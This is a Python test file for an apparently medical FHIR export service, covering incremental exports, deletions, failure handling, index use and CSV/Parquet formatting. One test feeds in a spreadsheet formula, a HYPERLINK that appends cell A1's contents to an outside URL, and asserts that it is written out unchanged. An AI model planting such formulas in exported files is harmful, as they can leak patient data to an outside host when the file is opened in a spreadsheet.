"""Increments on a store that changes: what is new, what is gone, one moment; and every query by an index."""

from __future__ import annotations

import asyncio
import csv
import errno
import gc
import io
import json
import sys
import threading
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import IO, Any, cast

import pytest

from adapter.errors import Malformed
from adapter.export import copying, tables
from adapter.export.columns import Rows
from adapter.export.copying import Copying, Wanted
from adapter.export.deidentify import Deidentifier
from adapter.export.engine import Cut, Selection, resources, take_cut
from adapter.export.filters import Filters, asked_for, check, kinds, queries
from adapter.export.folder import Folder, Manifest
from adapter.service import Service
from mappings.systems import DEFAULT_SYSTEMS
from mappings.vocabulary import Vocabulary
from store.codec import Resource
from store.errors import Unreachable
from store.exporting import Part, Query
from store.store import Store
from store.unit_of_work import UnitOfWork
from tests.conftest import Clock
from tests.store.support import explain

BASE = "https://fhir.example.org/fhir/R4"
UHID = "UG123456789A"


def slot(number: int, status: str = "free") -> Resource:
    return {
        "resourceType": "Slot",
        "id": f"s{number:02}",
        "schedule": {"reference": "Schedule/x"},
        "status": status,
        "start": f"2024-01-{number + 1:02}T09:00:00Z",
        "end": f"2024-01-{number + 1:02}T09:30:00Z",
    }


async def create(store: Store, *resources: Resource) -> None:
    async def step(work: UnitOfWork) -> None:
        for one in resources:
            work.create(one)

    await store.transact(step)


async def change(store: Store, ident: str, status: str | None) -> None:
    async def step(work: UnitOfWork) -> None:
        before = await work.read("Slot", ident)
        assert before is not None
        if status is None:
            work.delete(before)
        else:
            work.update(before, {**before, "status": status})

    await store.transact(step)


async def copied(
    service: Service,
    folder: Path,
    wanted: Wanted,
    *,
    key: bytes | None = None,
    kind: type[Folder] = Folder,
    rows: Rows | None = None,
) -> Manifest:
    """Carry out an export of the test store, or go on with it."""
    store, place = service.stores["test"], kind(str(folder))
    manifest = place.read() or Manifest(await take_cut(store), "test", {})
    deidentifier = None if key is None else Deidentifier(key, service.systems)
    await Copying(store, place, manifest, wanted, rows, deidentifier).carry_out(lambda _: None)
    return manifest


async def queried(service: Service, cut: Cut, filters: Filters, kind: str) -> tuple[Query, ...]:
    """The queries of the filters, in the test store."""
    store = service.stores["test"]
    asked = await asked_for(service.settings, store, cut, filters)
    return await queries(service.settings, store, cut, filters, asked, kind)


def lines(folder: Path, files: list[dict[str, Any]]) -> list[Any]:
    return [json.loads(line) for one in files for line in (folder / one["url"]).read_bytes().splitlines()]


async def test_an_increment_tells_what_is_new_changed_and_gone(service: Service, clock: Clock, tmp_path: Path) -> None:
    store = service.stores["test"]
    await create(store, *map(slot, range(5)))
    clock.advance(seconds=1)
    first = await copied(service, tmp_path / "1", Wanted("ndjson", ("Slot",), BASE))
    assert [one["count"] for one in first.output] == [5]
    clock.advance(seconds=1)
    await change(store, "s01", "busy")
    await change(store, "s02", None)
    await create(store, slot(7))
    clock.advance(seconds=1)
    wanted = Wanted("ndjson", ("Slot",), BASE, since=first.cut.moment)
    second = await copied(service, tmp_path / "2", wanted)
    found = lines(tmp_path / "2", second.output)
    assert [(one["id"], one["status"]) for one in found] == [("s01", "busy"), ("s07", "free")]
    [bundle] = lines(tmp_path / "2", second.deleted)
    assert bundle["entry"] == [{"request": {"method": "DELETE", "url": "Slot/s02"}}]
    hidden = await copied(service, tmp_path / "3", wanted, key=b"a key of sixteen")
    [bundle] = lines(tmp_path / "3", hidden.deleted)
    name = Deidentifier(b"a key of sixteen", service.systems).name("Slot/s02")
    assert bundle["entry"] == [{"request": {"method": "DELETE", "url": name}}]
    assert bundle["entry"][0]["request"]["url"] != "Slot/s02"


async def test_incremental_exports_under_constant_writing_add_up_to_the_store(service: Service, tmp_path: Path) -> None:
    store = service.stores["test"]
    await create(store, *map(slot, range(20)))
    known: dict[str, str] = {}
    since: datetime | None = None
    ended = asyncio.Event()

    async def write() -> None:
        for number in range(60):
            await change(store, f"s{number % 10:02}", ("busy", "free")[number // 10 % 2])
            if number % 20 == 5:
                await change(store, f"s{10 + number // 20:02}", None)
        ended.set()

    writing = asyncio.create_task(write())
    rounds = 0
    while True:
        last = ended.is_set()
        folder = tmp_path / str(rounds)
        manifest = await copied(service, folder, Wanted("ndjson", ("Slot",), BASE, since=since, most=7))
        for one in lines(folder, manifest.output):
            known[one["id"]] = one["meta"]["versionId"]
        for bundle in lines(folder, manifest.deleted):
            for entry in bundle["entry"]:
                known.pop(entry["request"]["url"].partition("/")[2], None)
        since, rounds = manifest.cut.moment, rounds + 1
        if last:
            break
    await writing
    stored = [json.loads(raw) for raw in await store.find("Slot", {})]
    assert known == {one["id"]: one["meta"]["versionId"] for one in stored}
    assert len(known) == 17
    assert rounds > 1


async def test_the_next_file_is_begun_while_the_disk_takes_its_time_over_one(service: Service, tmp_path: Path) -> None:
    begun = threading.Event()

    class Slow(Folder):
        def create(self, name: str) -> IO[bytes]:
            if name == "Slot.00002.ndjson":
                begun.set()
            return super().create(name)

        def close(self, file: IO[bytes]) -> None:
            assert begun.wait(10)
            super().close(file)

    await create(service.stores["test"], *map(slot, range(5)))
    wanted = Wanted("ndjson", ("Slot",), BASE, most=3)
    manifest = await copied(service, tmp_path, wanted, kind=Slow)
    assert [one["count"] for one in manifest.output] == [3, 2]


@pytest.mark.parametrize("bad", [1, 2, 3])
async def test_a_file_that_the_disk_does_not_keep_is_not_remembered_nor_what_comes_behind_it(
    service: Service, tmp_path: Path, bad: int
) -> None:
    class Full(Folder):
        closed = 0

        def close(self, file: IO[bytes]) -> None:
            self.closed += 1
            if self.closed == bad:
                raise OSError(errno.ENOSPC, "No space left on device")
            super().close(file)

    await create(service.stores["test"], *map(slot, range(8)))
    wanted = Wanted("ndjson", ("Slot", "Schedule"), BASE, most=3)
    with pytest.raises(OSError, match="No space"):
        await copied(service, tmp_path, wanted, kind=Full)
    kept = Folder(str(tmp_path)).read()
    names = [] if kept is None else [one["url"] for one in kept.output]
    assert names == [f"Slot.{number:05}.ndjson" for number in range(1, bad)]
    whole = await copied(service, tmp_path, wanted)
    assert [one["count"] for one in whole.output] == [3, 3, 2]
    assert [one["id"] for one in lines(tmp_path, whole.output)] == [f"s{number:02}" for number in range(8)]


@pytest.mark.parametrize("where", ["at the end", "while it is read"])
@pytest.mark.parametrize("zipped", [False, True], ids=["parquet", "csv.gz"])
async def test_a_table_that_cannot_be_finished_writes_nothing_when_it_is_thrown_away(
    service: Service, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, zipped: bool, where: str
) -> None:
    """Arrow ends its file then, and one that is closed already is complained of, wherever Python is just then."""

    class Full(io.FileIO):
        def write(self, data: Any) -> int:
            if where == "at the end" and self.tell() > 10:  # its first letters are written at once
                raise OSError(errno.ENOSPC, "No space left on device")
            return super().write(data)

    class Small(Folder):
        def create(self, name: str) -> IO[bytes]:
            return cast("IO[bytes]", Full(tmp_path / name, "wb"))

    async def cut_off(*words: Any, **options: Any) -> AsyncIterator[Part]:
        async for part in resources(*words, **options):
            yield part
        if where == "while it is read" and options:  # not the Schedules, which are read before
            raise Unreachable("MongoDB did not answer in time")

    said: list[Any] = []
    monkeypatch.setattr(sys, "unraisablehook", said.append)
    monkeypatch.setattr(copying, "resources", cut_off)
    await create(service.stores["test"], *map(slot, range(28)))
    rows = Rows(DEFAULT_SYSTEMS, Vocabulary.default())
    wanted = Wanted("csv" if zipped else "parquet", ("Slot",), BASE, zipped=zipped)
    with pytest.raises((OSError, Unreachable)):
        await copied(service, tmp_path, wanted, kind=Small, rows=rows)
    before = {path: path.stat().st_size for path in tmp_path.iterdir()}
    gc.collect()
    assert not said
    assert {path: path.stat().st_size for path in tmp_path.iterdir()} == before


async def test_the_file_of_deletions_is_let_go_of_where_they_cannot_be_read(
    service: Service, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    made: list[IO[bytes]] = []

    class Noting(Folder):
        def create(self, name: str) -> IO[bytes]:
            made.append(super().create(name))
            return made[-1]

    async def cut_off(*_: Any) -> AsyncIterator[list[str]]:
        yield ["Slot/gone"]
        raise Unreachable("MongoDB did not answer in time")

    monkeypatch.setattr(copying, "deletions", cut_off)
    with pytest.raises(Unreachable):
        await copied(
            service, tmp_path, Wanted("ndjson", ("Slot",), BASE, since=datetime(2024, 1, 1, tzinfo=UTC)), kind=Noting
        )
    assert [(Path(file.name).name, file.closed) for file in made] == [("deleted.00001.ndjson", True)]


@pytest.mark.parametrize(
    "filters",
    [
        Filters(),
        Filters(status=("booked",)),
        Filters(date_from=datetime(2024, 1, 1, tzinfo=UTC).date()),
        Filters(practitioner="p", facility="f"),
        Filters(patient_uhid=UHID),
        Filters(patient_uhid=UHID, practitioner="p"),
    ],
    ids=lambda filters: "+".join(filters.given) or "none",
)
async def test_every_filter_is_served_by_an_index(service: Service, filters: Filters) -> None:
    store = service.stores["test"]
    identifiers = [{"system": service.systems.uhid, "value": value} for value in (UHID, "UG000000002B")]
    patient = {"resourceType": "Patient", "id": "p", "identifier": identifiers}
    role = {"resourceType": "PractitionerRole", "id": "r", "practitioner": {"reference": "Practitioner/p"}}
    await create(store, patient, role)
    cut = await take_cut(store)
    for kind in kinds(filters, (), ("Appointment", "Slot", "Patient", "Schedule")):
        found = await queried(service, cut, filters, kind)
        query = {"$and": [{"_id": {"$gt": ""}}, {"$or": list(found)}]} if found else {"_id": {"$gt": ""}}
        plan = await explain(store, kind, query, sort=[("_id", 1)])
        assert "COLLSCAN" not in json.dumps(plan, default=str), (kind, query)


async def test_both_ways_to_a_patient_are_queried_beside_other_actors(service: Service) -> None:
    store = service.stores["test"]
    patient = {"resourceType": "Patient", "id": "p1", "identifier": [{"system": service.systems.uhid, "value": UHID}]}

    def appointment(ident: str, actor: Resource, practitioner: str) -> Resource:
        actors = [actor, {"reference": f"Practitioner/{practitioner}"}]
        participants = [{"status": "accepted", "actor": one} for one in actors]
        return {"resourceType": "Appointment", "id": ident, "status": "proposed", "participant": participants}

    stated = {"identifier": {"system": service.systems.uhid, "value": UHID}}
    referred = {"reference": "Patient/p1"}
    await create(
        store,
        patient,
        appointment("a1", stated, "d1"),
        appointment("a2", referred, "d1"),
        appointment("a3", referred, "d2"),
        appointment("a4", {"reference": "Patient/p2"}, "d1"),
        appointment("others", {"reference": "RelatedPerson/mum", **stated}, "d1"),
    )
    for filters, expected in (
        (Filters(patient_uhid=UHID), ["a1", "a2", "a3"]),
        (Filters(patient_uhid=UHID, practitioner="d1"), ["a1", "a2"]),
    ):
        found = await queried(service, await take_cut(store), filters, "Appointment")
        raws = await store.find("Appointment", {"$or": list(found)}, sort=[("_id", 1)])
        assert [json.loads(raw)["id"] for raw in raws] == expected
    with pytest.raises(Malformed):
        check(service.settings, Filters(patient_uhid="x"))


async def test_what_filters_name_is_looked_up_as_it_was_at_the_cut(service: Service, tmp_path: Path) -> None:
    store = service.stores["test"]
    mine = {"resourceType": "Schedule", "id": "x", "actor": [{"reference": "PractitionerRole/r"}]}
    role = {"resourceType": "PractitionerRole", "id": "r", "practitioner": {"reference": "Practitioner/p"}}
    patient = {"resourceType": "Patient", "id": "p", "identifier": [{"system": service.systems.uhid, "value": UHID}]}
    await create(store, mine, role, patient, *map(slot, range(3)))
    cut = await take_cut(store)
    asked = [
        (Filters(practitioner="p"), "Slot"),
        (Filters(patient_uhid=UHID), "Appointment"),
        (Filters(practitioner="p"), "Appointment"),
    ]
    at_first = [await queried(service, cut, filters, kind) for filters, kind in asked]
    assert "Schedule/x" in str(at_first[0])
    assert "Patient/p" in str(at_first[1])
    assert "PractitionerRole/r" in str(at_first[2])
    another = {"reference": "Practitioner/another"}

    async def step(work: UnitOfWork) -> None:
        for kind, ident, change in (
            ("Schedule", "x", {"actor": [another]}),
            ("PractitionerRole", "r", {"practitioner": another}),
            ("Patient", "p", {"identifier": []}),
        ):
            before = await work.read(kind, ident)
            assert before is not None
            work.update(before, {**before, **change})

    await store.transact(step)
    assert [await queried(service, cut, filters, kind) for filters, kind in asked] == at_first


async def test_by_which_uhids_a_visit_is_found_is_told_as_it_was_at_the_cut(service: Service) -> None:
    store = service.stores["test"]
    known, other = ({"system": service.systems.uhid, "value": value} for value in (UHID, "UG000000002B"))
    await create(
        store,
        {"resourceType": "Patient", "id": "p", "identifier": [known, other]},
        {
            "resourceType": "Appointment",
            "id": "alone",
            "status": "proposed",
            "participant": [{"status": "accepted", "actor": {"identifier": other}}],
        },
    )
    cut = await take_cut(store)

    async def step(work: UnitOfWork) -> None:
        for kind, ident, change in (
            ("Patient", "p", {"identifier": [known]}),
            ("Appointment", "alone", {"comment": "x"}),
        ):
            before = await work.read(kind, ident)
            assert before is not None
            work.update(before, {**before, **change})

    await store.transact(step)
    for moment, expected in ((cut, ["1"]), (await take_cut(store), [])):
        selection = Selection(
            "Appointment", queries=await queried(service, moment, Filters(patient_uhid=UHID), "Appointment")
        )
        found = [json.loads(line) async for part in resources(store, moment, selection) for line in part.lines]
        assert [one["meta"]["versionId"] for one in found] == expected


@pytest.mark.parametrize(
    ("sent", "text", "moment"),
    [
        (
            "2024-01-20T13:00:00.123456789+03:00",
            "2024-01-20T10:00:00.123456789Z",
            datetime(2024, 1, 20, 10, 0, 0, 123456, tzinfo=UTC),
        ),
        ("9999-12-31T23:59:59-12:00", "9999-12-31T23:59:59.999999Z", datetime.max.replace(tzinfo=UTC)),
        ("0001-01-01T00:00:00+03:00", "0001-01-01T00:00:00Z", datetime.min.replace(tzinfo=UTC)),
        ("2027-05-01T23:59:60Z", "2027-05-02T00:00:00Z", datetime(2027, 5, 2, tzinfo=UTC)),
        ("2027-05-02T02:59:60.5+03:00", "2027-05-02T00:00:00Z", datetime(2027, 5, 2, tzinfo=UTC)),
    ],
)
def test_a_moment_beyond_calendar_or_clock_is_the_nearest_in_them(sent: str, text: str, moment: datetime) -> None:
    from pyarrow import parquet

    line = json.dumps({"resourceType": "Slot", "id": "s", "schedule": {}, "status": "free", "start": sent}).encode()
    rows = Rows(DEFAULT_SYSTEMS, Vocabulary.default())
    flat, packed = io.BytesIO(), io.BytesIO()
    for writing in (tables.Csv(flat, "Slot", rows), tables.Parquet(packed, "Slot", rows)):
        writing.add("Slot", [line])
        writing.finish()
    [row] = csv.DictReader(io.StringIO(flat.getvalue().decode()))
    assert row["start_time"] == text
    [found] = parquet.read_table(packed).column("start_time")
    assert found.as_py() == moment


def test_a_text_that_a_spreadsheet_takes_for_a_formula_is_as_it_was_written() -> None:
    """docs/decisions.md: other readers of the file would have the sign that disarms it in their data."""
    typed = '=HYPERLINK("https://example.org/?"&A1,"Lab results")'
    visit = {"resourceType": "Appointment", "id": "a", "status": "booked", "reasonCode": [{"text": typed}]}
    flat = io.BytesIO()
    writing = tables.Csv(flat, "Appointment", Rows(DEFAULT_SYSTEMS, Vocabulary.default()))
    writing.add("Appointment", [json.dumps(visit).encode()])
    writing.finish()
    [row] = csv.DictReader(io.StringIO(flat.getvalue().decode()))
    assert row["reason_text"] == typed


def test_what_is_no_moment_is_not_in_a_table() -> None:
    assert tables._moment("tomorrow") is None
